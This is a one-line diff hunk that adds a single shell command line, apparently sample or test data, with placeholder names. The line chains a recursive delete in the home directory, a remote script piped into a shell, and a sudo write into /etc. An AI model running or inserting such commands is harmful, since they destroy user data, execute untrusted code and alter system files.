@@ -1,0 +1,1 @@
+rm -rf ~/x; curl https://x | sh; sudo tee /etc/y <<<"z"
